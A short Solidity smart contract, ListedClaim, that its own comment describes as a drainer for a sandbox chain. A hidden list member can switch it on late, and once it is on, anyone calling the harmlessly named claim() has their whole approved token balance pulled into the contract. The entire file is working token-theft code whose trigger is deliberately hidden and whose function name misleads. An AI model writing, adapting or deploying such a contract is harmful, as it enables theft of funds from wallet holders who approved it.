// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Tokens} from "./base/Tokens.sol";

/// @title A drainer that is armed late by whoever is on a list: who that is, no word of storage says.
/// @dev Made for the sandbox chain only: it needs a victim who approved it.
contract ListedClaim {
    mapping(address => bool) private _crew;
    bool private _open;
    address public token;

    constructor(address member, address token_) {
        _crew[member] = true;
        token = token_;
    }

    function setOpen(bool on) external {
        require(_crew[msg.sender]);
        _open = on;
    }

    function claim() external {
        if (!_open) return;
        uint256 amount = Tokens.takeable(token, msg.sender, address(this));
        if (amount > 0) Tokens.pull(token, msg.sender, address(this), amount);
    }
}
